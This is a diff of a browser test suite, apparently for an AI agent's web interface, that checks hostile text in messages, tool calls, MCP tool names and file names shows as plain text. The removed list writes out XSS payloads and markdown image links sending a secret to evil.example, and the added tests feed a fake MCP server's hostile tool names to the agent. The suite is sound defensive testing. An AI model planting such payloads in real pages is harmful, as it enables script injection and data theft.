@@ -1,6 +1,10 @@
 // Hazard: one of the many places that show text from outside makes markup, a request or other text of it (W2, W3).
-import { describe, expect } from 'vitest';
+import { writeFile } from 'node:fs/promises';
+
+import { visibleName } from '@orion/contracts';
+import type { ScriptedProvider } from '@orion/llm-adapters/scripted';
 import type { Page } from 'playwright-core';
+import { describe, expect } from 'vitest';
 
 import {
   expectClean,
@@ -11,40 +15,49 @@ import {
   useBrowser,
 } from '../support/browser.ts';
 import { at } from '../support/sandbox.ts';
-import { writeDocument } from '../support/scripts.ts';
+import { configureUser } from '../support/mcp.ts';
+import { LAST_WORD, writeDocument } from '../support/scripts.ts';
 import { serve } from '../support/serve.ts';
 import { waitFor } from '../support/wait.ts';
+import { HOSTILE, HOSTILE_NAMES } from './support/hostile-strings.ts';
 import { beginWriting, fully, textOf } from './support/page-writes.ts';
 
-/** Each would set `hacked`, or ask evil.example, where it became more than text. */
-const ATTACKS = [
-  '<img src=x onerror="window.hacked=1">',
-  '"><script>window.hacked=1</script>',
-  '</script><svg/onload=window.hacked=1>',
-  "'-window.hacked=1-'",
-  '<details open ontoggle=window.hacked=1>',
-  '<style>@import "https://evil.example/a.css"</style>',
-  '<base href="https://evil.example/">',
-  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
-  '<form action="https://evil.example"><button autofocus onfocus=window.hacked=1>',
-  '<a href="javascript:window.hacked=1">x</a>',
-  '[x](javascript:window.hacked=1)',
-  '[x](JAVASCRIPT&colon;window.hacked=1)',
-  '[x](data:text/html,<script>window.hacked=1</script>)',
-  '[x](vbscript:x)',
-  '[x](//evil.example)',
-  '![x](https://evil.example/?q=secret)',
-  '![x][1]',
-  '[1]: https://evil.example/?q=secret',
-  '<https://evil.example/"onmouseover="window.hacked=1>',
-  '&lt;script&gt;&#x3c;img src=x onerror=window.hacked=1&#x3e;',
-  '${window.hacked=1}{{constructor.constructor("window.hacked=1")()}}',
-  '__proto__ constructor toString hasOwnProperty',
-  'NULL undefined NaN 1e309 -0 0x7fffffff',
-  'Ω≈ç√∫˜µ≤≥÷ 田中さん 사회과학원 👩🏽‍🚀 Z͑ͫ̓ͪ̂ͫ̽͏A̴̵̜̰͔ͫ͗͢',
-  'ﷺ بِسْمِ اللهِ',
-];
-const TEXT = ATTACKS.join('\n');
+const TEXT = HOSTILE.join('\n');
+/** As they are where people decide about them. */
+const SHOWN = HOSTILE.map((text) => visibleName(text));
+const [IMAGE = ''] = HOSTILE;
+
+const inJson = (text: string): string => JSON.stringify(text).slice(1, -1);
+
+/** An MCP server with tools of these names; `answers` and `fails` say this, as every other one does. */
+const serverOf = (names: readonly string[], said: string): string => `
+import { createInterface } from 'node:readline';
+const send = (message) => process.stdout.write(JSON.stringify({ jsonrpc: '2.0', ...message }) + '\\n');
+const said = ${JSON.stringify(said)};
+const inputSchema = { type: 'object', properties: {} };
+const tools = ${JSON.stringify(names)}.map((name) => ({ name, description: said.slice(0, 1000), inputSchema }));
+createInterface({ input: process.stdin }).on('line', (line) => {
+  const { id, method, params } = JSON.parse(line);
+  const serverInfo = { name: said.slice(0, 200), version: '1' };
+  if (method === 'server/discover') send({ id, error: { code: -32601, message: said } });
+  if (method === 'initialize')
+    send({ id, result: { protocolVersion: params.protocolVersion, capabilities: { tools: {} }, serverInfo } });
+  if (method === 'tools/list') send({ id, result: { tools } });
+  if (method === 'tools/call')
+    send({ id, result: { isError: params.name === 'fails', content: [{ type: 'text', text: said }] } });
+});
+`;
+
+function toolNamesOf({ requests }: ScriptedProvider): readonly string[] {
+  const { tools = [] } = requests[0]?.body as { tools?: readonly { function: { name: string } }[] };
+  return tools.map((tool) => tool.function.name);
+}
+
+type Asked = {
+  readonly approvalId: string;
+  readonly hash: string;
+  readonly action: { readonly tool: string };
+};
 
 async function expectHarmless(page: Page): Promise<void> {
   const found = await page.evaluate(() => ({
@@ -80,7 +93,7 @@ describe.skipIf(missingBrowser !== null)('hostile text everywhere', () => {
     expect(await textOf(page)).toBe(content);
     await expectHarmless(page);
     const added = await page.locator('.approval').getByRole('cell').allTextContents();
-    expect(added.slice(0, 20)).toEqual(ATTACKS.slice(0, 20));
+    expect(added).toEqual([...SHOWN, ...SHOWN]);
     await yes.click();
     await page.getByRole('region', { name: 'Receipt' }).waitFor();
     expect(String(await machine.read('docs/long.md'))).toBe(content);
@@ -100,20 +113,22 @@ describe.skipIf(missingBrowser !== null)('hostile text everywhere', () => {
               text: TEXT,
               toolCalls: [
                 { id: 'a', name: 'read_file', arguments: { path: 'evil.txt' } },
-                { id: 'b', name: 'read_file', arguments: { path: ATTACKS[0], [TEXT]: TEXT } },
-                { id: 'c', name: 'no_such_tool', arguments: TEXT },
+                { id: 'b', name: 'read_file', arguments: { path: IMAGE, [TEXT]: TEXT } },
+                { id: 'c', name: IMAGE, arguments: TEXT },
               ],
             },
           },
-          { name: 'says', when: { userMessages: 1 }, reply: { text: TEXT } },
+          { name: 'says', when: { userMessages: 1 }, reply: { text: `~~~~\n${TEXT}\n~~~~` } },
           {
             name: 'fails',
             reply: { text: '' },
-            faults: [{ kind: 'status', status: 400, message: ATTACKS.slice(0, 3).join(' ') }],
+            faults: [{ kind: 'status', status: 400, message: HOSTILE.slice(0, 3).join(' ') }],
           },
         ],
       });
-      const server = await serve(machine, at(provider));
+      // Whole in its row, and not stored beside it.
+      const env = { ORION_OUTPUT_AUTO_CHARACTERS: '65536' };
+      const server = await serve(machine, at(provider), { env });
       const watched = await openPage(browser(), pageLink(server));
       const { page } = watched;
       await sendMessage(page, TEXT);
@@ -123,17 +138,26 @@ describe.skipIf(missingBrowser !== null)('hostile text everywhere', () => {
       const calls = turn.locator('details.call');
       await expect.poll(() => calls.count()).toBe(3);
       for (const call of await calls.all()) await call.locator('summary').click();
+      expect(await calls.nth(2).locator('summary').textContent()).toContain(IMAGE);
+      expect(await calls.nth(1).locator('pre').first().textContent()).toBe(
+        JSON.stringify({ path: IMAGE, [TEXT]: TEXT }),
+      );
+      // What is code in an answer is drawn as it is.
+      expect(await turn.locator('.prose pre').last().textContent()).toBe(TEXT);
       await expectHarmless(page);
 
       await page.getByLabel('Message').fill('Again');
       await page.getByRole('button', { name: 'Send' }).click();
       const error = page.getByRole('region', { name: 'Error' });
       await error.waitFor();
-      expect(await error.textContent()).toContain(ATTACKS[0]);
+      expect(await error.textContent()).toContain(HOSTILE.slice(0, 3).join(' '));
       await expectHarmless(page);
       await page.reload();
       await page.getByRole('heading', { level: 1 }).waitFor();
       for (const each of await page.locator('details.call summary').all()) await each.click();
+      expect(await page.locator('.user').first().textContent()).toBe(TEXT);
+      const results = (await page.locator('details.call pre').allTextContents()).join('\n');
+      expect(HOSTILE.filter((text) => !results.includes(inJson(text)))).toEqual([]);
       await expectHarmless(page);
 
       await page.getByRole('navigation').getByRole('link', { name: 'Conversations' }).click();
@@ -155,9 +179,9 @@ describe.skipIf(missingBrowser !== null)('hostile text everywhere', () => {
       const preview = page.getByRole('button', { name: 'Show what it would change' });
       for (const plan of [
         TEXT,
-        JSON.stringify({ intent: TEXT, operations: [{ type: TEXT, target_file: ATTACKS[0] }] }),
+        JSON.stringify({ intent: TEXT, operations: [{ type: TEXT, target_file: IMAGE }] }),
         JSON.stringify({
-          intent: ATTACKS[0],
+          intent: IMAGE,
           operations: [{ type: 'create', target_file: 'a <b>.md', content: TEXT }],
         }),
       ]) {
@@ -169,8 +193,96 @@ describe.skipIf(missingBrowser !== null)('hostile text everywhere', () => {
           .waitFor();
         await expectHarmless(page);
       }
-      const cells = await page.getByRole('cell').allTextContents();
-      expect(cells.slice(0, 20)).toEqual(ATTACKS.slice(0, 20));
+      expect(await page.getByRole('cell').allTextContents()).toEqual(SHOWN);
+      expectClean(watched, server.url);
+    },
+  );
+
+  fully('in names of files is the name, wherever they are listed', async ({ machine }) => {
+    const server = await serve(machine);
+    const watched = await openPage(browser(), pageLink(server));
+    const { page } = watched;
+    await page.getByRole('heading', { name: 'Now' }).waitFor();
+    const rows = page.locator('main a[data-row] .name');
+    for (let from = 0; from < HOSTILE_NAMES.length; from += 60) {
+      const names = HOSTILE_NAMES.slice(from, from + 60);
+      const ids: string[] = [];
+      for (const name of names) {
+        const json = { intent: name, target_file: name, operation: 'create' };
+        const { json: begun } = await server.ask('/api/write-sessions', { json });
+        ids.push((begun as { session_id: string }).session_id);
+      }
+      await page.goto(`${server.url}/w`);
+      await waitFor('the names', async () => (await rows.count()) === names.length);
+      const shown = names.map((name) => visibleName(name));
+      expect((await rows.allTextContents()).toSorted()).toEqual(shown.toSorted());
+      await expectHarmless(page);
+      await rows.first().click();
+      await page.getByRole('region', { name: 'What can be done' }).waitFor();
+      expect(shown).toContain(await page.getByRole('heading', { level: 1 }).textContent());
+      await expectHarmless(page);
+      for (const id of ids) await server.ask(`/api/write-sessions/${id}`, { method: 'DELETE' });
+    }
+    expectClean(watched, server.url);
+  });
+
+  fully(
+    'in names and answers of MCP tools, and in their place, stays text',
+    async ({ machine }) => {
+      const names = HOSTILE.filter((_, at) => at % 12 === 0);
+      const program = machine.path(`<img src=x onerror=window.hacked=1>.mjs`);
+      await writeFile(program, serverOf([...names, 'answers', 'fails'], TEXT));
+      const made = { command: process.execPath, args: [program] };
+      const allowMcpTools = ['mcp__made__answers', 'mcp__made__fails'];
+      await configureUser(machine, { mcpServers: { made }, allowMcpTools });
+      // What they are called by a model, it is told.
+      const told = await machine.provider({ behaviours: [LAST_WORD] });
+      expect((await machine.ask(told)).exitCode).toBe(0);
+      const offered = toolNamesOf(told).filter((name) => name.startsWith('mcp__made__'));
+      expect(offered).toHaveLength(names.length + 2);
+
+      const toolCalls = offered.map((name, at) => ({
+        id: `call-${at}`,
+        name,
+        arguments: { [IMAGE]: IMAGE },
+      }));
+      const provider = await machine.provider({
+        behaviours: [{ when: { toolResults: 0 }, reply: { toolCalls } }, LAST_WORD],
+      });
+      const env = { ORION_OUTPUT_AUTO_CHARACTERS: '65536' };
+      const server = await serve(machine, [...at(provider), '--approve', 'ask'], { env });
+      const watched = await openPage(browser(), pageLink(server));
+      const { page } = watched;
+      await sendMessage(page, 'Call them.');
+      const asked = new Set<string>();
+      while (asked.size < names.length) {
+        const { approvalId, hash, tool } = await waitFor('a further question', async () => {
+          const { json } = await server.ask('/api/approvals?state=pending');
+          const [found] = (json as { approvals: readonly Asked[] }).approvals;
+          return found !== undefined && !asked.has(found.action.tool)
+            ? { ...found, tool: found.action.tool }
+            : null;
+        });
+        asked.add(tool);
+        await waitFor('its words', async () => {
+          const words = await page.locator('.approval .name').allTextContents();
+          return words.includes(visibleName(tool)) && words.some((each) => each.includes(program));
+        });
+        await expectHarmless(page);
+        const decision = asked.size === 1 ? 'no' : 'yes';
+        const body = { decision, hash, ...(decision === 'no' ? { reason: IMAGE } : {}) };
+        expect((await server.ask(`/api/approvals/${approvalId}`, { json: body })).status).toBe(200);
+      }
+      expect([...asked].toSorted()).toEqual(names.toSorted());
+      await page.locator('article.turn[aria-busy=false]').waitFor();
+      for (const each of await page.locator('details.call > summary').all()) await each.click();
+      await expectHarmless(page);
+      await page.reload();
+      await page.locator('details.call').first().waitFor();
+      for (const each of await page.locator('details.call > summary').all()) await each.click();
+      const results = (await page.locator('details.call pre').allTextContents()).join('\n');
+      for (const said of [names[0] ?? '', TEXT]) expect(results).toContain(inJson(said));
+      await expectHarmless(page);
       expectClean(watched, server.url);
     },
   );
